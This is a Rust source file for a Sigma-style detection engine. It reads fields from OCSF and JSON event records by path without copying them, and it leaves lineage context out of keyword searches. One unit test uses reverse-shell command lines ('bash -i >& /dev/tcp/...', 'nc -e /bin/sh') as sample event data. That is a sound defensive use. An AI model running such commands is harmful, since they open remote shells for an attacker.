//! Reading any field of any event by name, without copying.
//!
//! The rule engine compiles each field name it needs into a [`FieldPath`] once, at rule
//! load time, after the logsource's field mapping has turned a Sigma name (`Image`) into
//! the event's own name for it (`process.file.path` for Vigil's OCSF events,
//! `Event.EventData.Image` for a Windows record). At match time it calls
//! [`Event::field`], which walks the event's own structure and hands back borrowed values.

use crate::value::{FieldPath, Value};
use std::borrow::Cow;

/// Anything the detection engine can match: Vigil's OCSF events, JSON log records,
/// Windows event records.
pub trait Event {
    /// The value at `path`, or `None` when the event has no such field.
    ///
    /// When the path crosses an array of objects, the result is a [`Value::List`] of the
    /// values found in each element.
    fn field(&self, path: &FieldPath) -> Option<Value<'_>>;

    /// Calls `f` with every string value in the event, in document order (for Sigma
    /// keyword searches, which look at all values). Vigil's OCSF events leave out their
    /// lineage context (`parent_process`, `ancestry`; see [`is_lineage`]).
    fn for_each_str<'a>(&'a self, f: &mut dyn FnMut(&'a str));

    /// Every string [`Event::for_each_str`] visits, in the same order, each followed by
    /// a NUL byte, if the event keeps them so (a parser can join them as it reads them);
    /// `None` otherwise (the default). Sigma keyword searches look in this text.
    fn joined_strs(&self) -> Option<&[u8]> {
        None
    }
}

/// Path-directed access implemented by every part of the event model: the value at parts
/// `i..` of `path`, relative to `self`.
pub trait Fields {
    /// The value at parts `i..` of `path`, relative to `self`.
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>>;
    /// Visits every string held by `self` or anything inside it.
    fn visit_strs<'a>(&'a self, f: &mut dyn FnMut(&'a str));
}

macro_rules! int_fields {
    ($($t:ty),*) => {$(
        impl Fields for $t {
            fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
                (i == path.len()).then(|| Value::Int(i64::from(*self)))
            }
            fn visit_strs<'a>(&'a self, _f: &mut dyn FnMut(&'a str)) {}
        }
    )*};
}
int_fields!(i8, i16, i32, i64, u8, u16, u32);

impl Fields for u64 {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        (i == path.len()).then(|| match i64::try_from(*self) {
            Ok(v) => Value::Int(v),
            Err(_) => Value::Float(*self as f64),
        })
    }
    fn visit_strs<'a>(&'a self, _f: &mut dyn FnMut(&'a str)) {}
}

impl Fields for f64 {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        (i == path.len()).then_some(Value::Float(*self))
    }
    fn visit_strs<'a>(&'a self, _f: &mut dyn FnMut(&'a str)) {}
}

impl Fields for bool {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        (i == path.len()).then_some(Value::Bool(*self))
    }
    fn visit_strs<'a>(&'a self, _f: &mut dyn FnMut(&'a str)) {}
}

impl Fields for String {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        (i == path.len()).then_some(Value::Str(Cow::Borrowed(self.as_str())))
    }
    fn visit_strs<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        f(self)
    }
}

impl Fields for Cow<'static, str> {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        (i == path.len()).then_some(Value::Str(Cow::Borrowed(&**self)))
    }
    fn visit_strs<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        f(self)
    }
}

impl<T: Fields> Fields for Option<T> {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        self.as_ref()?.field_at(path, i)
    }
    fn visit_strs<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        if let Some(v) = self {
            v.visit_strs(f)
        }
    }
}

impl<T: Fields> Fields for Box<T> {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        (**self).field_at(path, i)
    }
    fn visit_strs<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        (**self).visit_strs(f)
    }
}

impl<T: Fields> Fields for Vec<T> {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        let found: Vec<Value<'a>> = self.iter().filter_map(|e| e.field_at(path, i)).collect();
        if found.is_empty() && i < path.len() {
            None
        } else {
            Some(Value::List(found))
        }
    }
    fn visit_strs<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        self.iter().for_each(|e| e.visit_strs(f))
    }
}

/// The value of a JSON leaf, borrowed.
fn json_leaf(v: &serde_json::Value) -> Value<'_> {
    use serde_json::Value as J;
    match v {
        J::Null => Value::Null,
        J::Bool(b) => Value::Bool(*b),
        J::Number(n) => match n.as_i64() {
            Some(i) => Value::Int(i),
            None => Value::Float(n.as_f64().unwrap_or(f64::NAN)),
        },
        J::String(s) => Value::Str(Cow::Borrowed(s)),
        J::Array(a) => Value::List(a.iter().map(json_leaf).collect()),
        J::Object(_) => Value::Object,
    }
}

fn json_object_at<'a>(
    m: &'a serde_json::Map<String, serde_json::Value>,
    path: &FieldPath,
    i: usize,
) -> Option<Value<'a>> {
    if let Some(child) = m.get(path.part(i)?) {
        if let Some(found) = child.field_at(path, i + 1) {
            return Some(found);
        }
    }
    // A flat key holding dots: `{"winlog.event_data.Image": ...}`.
    if i + 1 < path.len() {
        if let Some(child) = m.get(path.rest(i)?) {
            return Some(json_leaf(child));
        }
    }
    None
}

impl Fields for serde_json::Value {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        use serde_json::Value as J;
        if i == path.len() {
            return Some(json_leaf(self));
        }
        match self {
            J::Object(m) => json_object_at(m, path, i),
            J::Array(a) => {
                let found: Vec<Value<'a>> = a.iter().filter_map(|e| e.field_at(path, i)).collect();
                (!found.is_empty()).then_some(Value::List(found))
            }
            _ => None,
        }
    }
    fn visit_strs<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        use serde_json::Value as J;
        match self {
            J::String(s) => f(s),
            J::Array(a) => a.iter().for_each(|e| e.visit_strs(f)),
            J::Object(m) => m.values().for_each(|e| e.visit_strs(f)),
            J::Null | J::Bool(_) | J::Number(_) => {}
        }
    }
}

impl Fields for serde_json::Map<String, serde_json::Value> {
    fn field_at<'a>(&'a self, path: &FieldPath, i: usize) -> Option<Value<'a>> {
        if i == path.len() {
            return Some(Value::Object);
        }
        json_object_at(self, path, i)
    }
    fn visit_strs<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        self.values().for_each(|e| e.visit_strs(f))
    }
}

/// Whether an attribute is lineage context (`parent_process`, `ancestry`): the ancestors
/// of the process an event is about. Field lookups reach it by path; a keyword search
/// ([`Event::for_each_str`]) does not, because it describes earlier events, not this
/// one (otherwise a keyword rule fires again on every descendant's event).
pub const fn is_lineage(attribute: &str) -> bool {
    matches!(attribute.as_bytes(), b"parent_process" | b"ancestry")
}

/// One of Vigil's OCSF events in its JSON form (read back from a file): fields as
/// JSON, and a keyword search that, like the typed events', leaves out lineage context
/// (`parent_process`, `ancestry`).
#[derive(Debug, Clone, Copy)]
pub struct OcsfJson<'a>(pub &'a serde_json::Value);

fn visit_strs_no_lineage<'a>(v: &'a serde_json::Value, f: &mut dyn FnMut(&'a str)) {
    use serde_json::Value as J;
    match v {
        J::String(s) => f(s),
        J::Array(a) => a.iter().for_each(|e| visit_strs_no_lineage(e, f)),
        J::Object(m) => m
            .iter()
            .filter(|(k, _)| !is_lineage(k))
            .for_each(|(_, e)| visit_strs_no_lineage(e, f)),
        J::Null | J::Bool(_) | J::Number(_) => {}
    }
}

impl Event for OcsfJson<'_> {
    fn field(&self, path: &FieldPath) -> Option<Value<'_>> {
        self.0.field_at(path, 0)
    }
    fn for_each_str<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        visit_strs_no_lineage(self.0, f)
    }
}

impl Event for serde_json::Value {
    fn field(&self, path: &FieldPath) -> Option<Value<'_>> {
        self.field_at(path, 0)
    }
    fn for_each_str<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        self.visit_strs(f)
    }
}

impl Event for serde_json::Map<String, serde_json::Value> {
    fn field(&self, path: &FieldPath) -> Option<Value<'_>> {
        self.field_at(path, 0)
    }
    fn for_each_str<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
        self.visit_strs(f)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn get<'a>(e: &'a serde_json::Value, p: &str) -> Option<Value<'a>> {
        e.field(&FieldPath::new(p))
    }

    #[test]
    fn json_nested_flat_and_arrays() {
        let e = json!({
            "Event": {"System": {"EventID": 4688}, "EventData": {"NewProcessName": "C:\\x.exe"}},
            "winlog.event_data.Image": "/bin/sh",
            "hashes": [{"algorithm": "SHA-256", "value": "ab"}, {"algorithm": "MD5", "value": "cd"}],
            "n": null,
        });
        assert_eq!(get(&e, "Event.System.EventID"), Some(Value::Int(4688)));
        assert_eq!(
            get(&e, "Event.EventData.NewProcessName").unwrap().as_str(),
            Some("C:\\x.exe")
        );
        assert_eq!(
            get(&e, "winlog.event_data.Image").unwrap().as_str(),
            Some("/bin/sh")
        );
        assert_eq!(
            get(&e, "hashes.value"),
            Some(Value::List(vec![
                Value::Str("ab".into()),
                Value::Str("cd".into())
            ]))
        );
        assert_eq!(get(&e, "n"), Some(Value::Null));
        assert_eq!(get(&e, "Event"), Some(Value::Object));
        assert_eq!(get(&e, "Event.Nope"), None);
        assert_eq!(get(&e, "hashes.nope"), None);
    }

    #[test]
    fn json_strings_are_borrowed_not_copied() {
        let e = json!({"a": {"b": "text"}});
        let Some(Value::Str(Cow::Borrowed(s))) = get(&e, "a.b") else {
            panic!("expected a borrowed string")
        };
        let serde_json::Value::String(orig) = &e["a"]["b"] else {
            unreachable!()
        };
        assert!(std::ptr::eq(s.as_ptr(), orig.as_ptr()));
    }

    #[test]
    fn ocsf_json_keywords_skip_lineage_but_fields_reach_it() {
        let e = json!({"class_uid": 1007, "process": {"cmd_line": "sudo crontab",
            "parent_process": {"cmd_line": "bash -i >& /dev/tcp/x/1"},
            "ancestry": [{"cmd_line": "nc -e /bin/sh"}]}});
        let ocsf = OcsfJson(&e);
        let mut seen = Vec::new();
        ocsf.for_each_str(&mut |s| seen.push(s.to_string()));
        assert_eq!(seen, ["sudo crontab"]);
        let parent = ocsf.field(&FieldPath::new("process.parent_process.cmd_line"));
        assert_eq!(
            parent.and_then(|v| v.as_str().map(String::from)).as_deref(),
            Some("bash -i >& /dev/tcp/x/1")
        );
    }

    #[test]
    fn keyword_visit_sees_every_string() {
        let e = json!({"a": "x", "b": [1, "y", {"c": "z"}], "d": true});
        let mut seen = Vec::new();
        e.for_each_str(&mut |s| seen.push(s.to_string()));
        seen.sort();
        assert_eq!(seen, ["x", "y", "z"]);
    }
}
